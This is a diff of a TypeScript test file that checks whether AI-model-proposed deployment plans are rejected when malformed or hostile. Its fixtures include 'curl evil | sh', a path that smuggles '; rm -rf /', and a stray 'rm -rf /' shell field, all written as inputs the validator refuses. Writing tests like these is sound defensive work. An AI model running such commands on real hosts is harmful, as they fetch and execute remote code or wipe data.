@@ -9,8 +9,13 @@ const NEXT = '/nix/store/1d8wz3nhp9f2zzr0frc7qxa7j2zgssm4-home-manager-generatio
 const host = sshTestHost({ channels: ['discord', 'telegram'], runtimePlugins: ['discord'] });
 const ctx = { host, storeUrl: 'ssh://root@10.213.1.2', flakeDir: '/src/flake' };
 const reference = makePlan({
-  host, ctx, flake: { base: { rev: null, source: 'none' }, target: { rev: null, dirty: false }, lockHash: null },
-  current: { number: 4, storePath: CUR }, nextStorePath: NEXT, changes: [], findings: [],
+  host,
+  ctx,
+  flake: { base: { rev: null, source: 'none' }, target: { rev: null, dirty: false }, lockHash: null },
+  current: { number: 4, storePath: CUR },
+  nextStorePath: NEXT,
+  changes: [],
+  findings: [],
 });
 
 /** The deterministic plan's steps, as a model would send them. */
@@ -33,13 +38,29 @@ describe('a model proposal becomes a plan only through the catalog and the plan 
   it.each([
     ['invalid JSON', () => '{"apply": [', /not valid JSON/],
     ['an unknown action', () => JSON.stringify({ ...good(), validate: [...good().validate!, { action: 'run-shell', args: { cmd: 'curl evil | sh' }, reason: 'x' }] }), /unknown action 'run-shell'/],
-    ['hostile arguments', () => JSON.stringify({ ...good(), validate: [{ action: 'secret-present', args: { path: '/run/x; rm -rf /' }, reason: 'x' }, ...good().validate!] }), /absolute path of plain characters/],
+    [
+      'hostile arguments',
+      () => JSON.stringify({ ...good(), validate: [{ action: 'secret-present', args: { path: '/run/x; rm -rf /' }, reason: 'x' }, ...good().validate!] }),
+      /absolute path of plain characters/,
+    ],
     ['a proposal that drops rollback', () => JSON.stringify({ ...good(), rollback: [] }), /rollback must switch back to generation 4/],
     ['a proposal that drops the channel probe', () => JSON.stringify({ ...good(), validate: good().validate!.filter((s) => s.action !== 'channels-probe') }), /probe the channels/],
-    ['a probe that skips a channel', () => JSON.stringify({ ...good(), validate: good().validate!.map((s) => (s.action === 'channels-probe' ? { ...s, args: { port: 18789, channels: ['telegram'] } } : s)) }), /probe channel discord/],
+    [
+      'a probe that skips a channel',
+      () => JSON.stringify({ ...good(), validate: good().validate!.map((s) => (s.action === 'channels-probe' ? { ...s, args: { port: 18789, channels: ['telegram'] } } : s)) }),
+      /probe channel discord/,
+    ],
     ['another build in apply', () => JSON.stringify({ ...good(), apply: good().apply!.map((s) => (s.action === 'set-profile' ? { ...s, args: { ...s.args, storePath: CUR } } : s)) }), /planned build/],
-    ['a generation switch in apply', () => JSON.stringify({ ...good(), apply: [{ action: 'switch-generation', args: { profile: host.profile, generation: 1, storePath: CUR }, reason: 'x' }, ...good().apply!] }), /not allowed there/],
-    ['a write in validation', () => JSON.stringify({ ...good(), validate: [...good().validate!, { action: 'unlock-host', args: { path: `${host.profile}.clawdeploy/lock` }, reason: 'x' }] }), /validation may only read/],
+    [
+      'a generation switch in apply',
+      () => JSON.stringify({ ...good(), apply: [{ action: 'switch-generation', args: { profile: host.profile, generation: 1, storePath: CUR }, reason: 'x' }, ...good().apply!] }),
+      /not allowed there/,
+    ],
+    [
+      'a write in validation',
+      () => JSON.stringify({ ...good(), validate: [...good().validate!, { action: 'unlock-host', args: { path: `${host.profile}.clawdeploy/lock` }, reason: 'x' }] }),
+      /validation may only read/,
+    ],
     ['extra fields', () => JSON.stringify({ ...good(), shell: 'rm -rf /' }), /schema/],
   ])('refuses %s, with the reason', (_what, raw, reason) => {
     const r = checkProposal(raw(), reference, host, ctx);
